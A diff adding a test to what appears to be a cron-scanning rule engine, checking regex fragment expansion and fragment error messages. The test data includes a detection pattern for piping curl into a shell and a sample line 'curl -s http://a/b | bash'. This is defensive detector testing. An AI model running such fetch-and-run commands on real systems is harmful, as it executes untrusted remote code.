@@ -55,6 +55,14 @@ describe('rule packs', () => {
     expect(f.remediation).toBe(`sed -i '2d' '/etc/cron.d/x y'`);
   });
 
+  it('expands a pack\'s regex fragments, and names the line of an unknown or nested one', () => {
+    const withFragments = `fragments:\n  shell: '(?:ba|da)?sh'\n${ok.replace(`'curl[^|]*\\|\\s*sh'`, `'curl[^|]*\\|\\s*(?&shell)\\b'`)}`;
+    const rules = new RuleSet([parseRulePack(withFragments, 'f.yaml')]);
+    expect(rules.matchLines('cron', '/etc/crontab', 'curl -s http://a/b | bash\ncurl -s http://a/b | zsh').map((h) => h.line)).toEqual([1]);
+    expect(() => parseRulePack(withFragments.replace('(?&shell)', '(?&shells)'), 'f.yaml')).toThrow(/f\.yaml:\d+: .*unknown fragment \(\?&shells\); this pack defines shell/);
+    expect(() => parseRulePack(`fragments:\n  a: x\n  b: '(?&a)y'\n${ok}`, 'g.yaml')).toThrow(/g\.yaml:3: fragment b may not refer to another fragment/);
+  });
+
   it.each([
     ['an unknown severity', ok.replace('severity: high', 'severity: severe'), 5, /severity/],
     ['a bad regex', ok.replace(`'curl[^|]*\\|\\s*sh'`, `'curl(('`), 11, /regex/],
